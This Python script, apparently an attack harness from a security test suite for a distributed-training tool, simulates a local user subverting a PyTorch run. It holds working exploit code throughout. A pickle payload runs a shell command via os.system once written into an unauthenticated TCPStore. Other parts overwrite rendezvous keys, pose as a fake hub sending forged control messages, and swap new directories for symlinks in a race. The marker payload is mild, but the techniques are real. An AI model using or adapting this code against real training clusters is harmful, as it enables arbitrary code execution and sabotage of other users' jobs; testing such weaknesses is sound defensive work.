"""What another user of the machine does to a run: no torch, no phalanx, and none of their privileges.

    attacker.py store HOST PORT MARKER PATTERN
                                    overwrites each key of the store that matches with a pickle that makes MARKER
    attacker.py nodes HOST PORT     overwrites each key of the store where nodes meet with older values, values of other
                                    keys and the address of a hub of its own; sends forged messages to the real one
    attacker.py swap BASE TARGET    replaces each new directory in BASE by a link to TARGET
    attacker.py hold FILE           opens FILE, listens on an abstract socket, says both and waits

Every one of them runs until its standard input ends.
"""

from __future__ import annotations

import base64
import os
import pickle
import re
import select
import socket
import struct
import sys
import threading
import time

_MAGIC = 0x3C85F7CE
_VALIDATE, _SET, _GET, _LIST_KEYS = 0, 1, 3, 17
"""Of torch's TCPStore, which asks nobody for a password."""


class Bomb:
    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, ...]:
        return os.system, (f"id -u > {self.marker}",)


def attack_store(host: str, port: str, marker: str, pattern: str) -> None:
    bomb = pickle.dumps(Bomb(marker))
    with socket.create_connection(_wait_for(host, int(port))) as store:
        store.sendall(struct.pack("=BI", _VALIDATE, _MAGIC))
        while True:
            for key in _keys(store):
                if re.search(pattern, key.decode()):
                    content = base64.b64encode(bomb) if b"torch.rendezvous" in key else bomb
                    store.sendall(struct.pack("=B", _SET) + _text(key) + _text(content))
                    print("overwritten", key.decode(), flush=True)
            time.sleep(0.002)


def attack_nodes(host: str, port: str) -> None:
    fake = socket.create_server((host, 0))
    threading.Thread(target=_pose_as_hub, args=(fake,), daemon=True).start()
    own = b'{"address":"%b","port":%d}' % (host.encode(), fake.getsockname()[1])
    values: list[bytes] = [own, b"junk", pickle.dumps(os.system), b"-" * 32 + FORGED[0]]
    hubs: set[bytes] = set()
    with socket.create_connection(_wait_for(host, int(port))) as store:
        store.sendall(struct.pack("=BI", _VALIDATE, _MAGIC))
        for turn in range(1 << 60):
            for key in _keys(store):
                store.sendall(struct.pack("=B", _GET) + _text(key))
                found = _read(store, struct.unpack("=Q", _read(store, 8))[0])
                if found not in values:
                    values.append(found)
                if key == b"/phalanx/hub" and found.startswith(b'{"address":') and found != own:
                    hubs.add(found)
                content = own if key == b"/phalanx/hub" and turn % 2 else values[turn % len(values)]
                store.sendall(struct.pack("=B", _SET) + _text(key) + _text(content))
                print("overwritten", key.decode(), flush=True)
            for hub in [found for found in hubs if turn % 10 == 0]:
                _attack_hub(host, int(hub.rpartition(b":")[2].strip(b"}")), values)
            time.sleep(0.002)


FORGED = (
    b'{"message":"Stop","attempt":0,"why":"forged","for_good":true}',
    b'{"message":"NodeLost","node":1,"text":"forged"}',
    b'{"message":"Refused","text":"forged"}',
    b'{"message":"Over","exit_code":0}',
    b'{"message":"Leaving"}',
)
_GREETING = b"phalanx link 1\n"
_held: list[socket.socket] = []


def _attack_hub(host: str, port: int, values: list[bytes]) -> None:
    for said in (*(b"-" * 32 + forged for forged in FORGED), *values[-5:]):
        try:
            line = socket.create_connection((host, port), timeout=1)
            line.sendall(_GREETING + bytes(16) + struct.pack("!I", len(said)) + said)
        except OSError:
            continue
        _held.append(line)
        print("forged", said[:60], flush=True)
    while len(_held) > 100:
        _held.pop(0).close()


def _pose_as_hub(listener: socket.socket) -> None:
    while True:
        line, _ = listener.accept()
        print("posed as hub", flush=True)
        frames = [b"-" * 32 + forged for forged in FORGED]
        line.sendall(_GREETING + bytes(16) + b"".join(struct.pack("!I", len(one)) + one for one in frames))
        _held.append(line)


def _wait_for(host: str, port: int) -> tuple[str, int]:
    while True:
        try:
            socket.create_connection((host, port)).close()
        except OSError:
            time.sleep(0.01)
        else:
            return host, port


def _keys(store: socket.socket) -> list[bytes]:
    store.sendall(struct.pack("=B", _LIST_KEYS))
    (count,) = struct.unpack("=Q", _read(store, 8))
    return [_read(store, struct.unpack("=Q", _read(store, 8))[0]) for _ in range(count)]


def _text(content: bytes) -> bytes:
    return struct.pack("=Q", len(content)) + content


def _read(store: socket.socket, size: int) -> bytes:
    data = b""
    while len(data) < size:
        try:
            part = store.recv(size - len(data))
        except ConnectionResetError:
            part = b""
        if not part:
            sys.exit(0)  # the run is over
        data += part
    return data


def swap(base: str, target: str) -> None:
    known = set(os.listdir(base))
    while True:
        for name in set(os.listdir(base)) - known:
            if not name.startswith((".", "latest")):
                os.rename(f"{base}/{name}", f"{base}/.{name}-taken")
                os.symlink(target, f"{base}/{name}")
                known.add(name)
                print("swapped", name, flush=True)


def hold(file: str) -> None:
    opened = open(file, "rb")  # noqa: SIM115
    listener = socket.socket(socket.AF_UNIX)
    listener.bind("")
    listener.listen()
    print(os.getpid(), opened.fileno(), listener.getsockname()[1:].decode(), flush=True)
    while True:
        connection, _ = listener.accept()
        threading.Thread(target=connection.recv, args=(1,), daemon=True).start()


if __name__ == "__main__":
    kind, *arguments = sys.argv[1:]
    threading.Thread(
        target={"store": attack_store, "nodes": attack_nodes, "swap": swap, "hold": hold}[kind],
        args=arguments,
        daemon=True,
    ).start()
    select.select([sys.stdin], [], [])
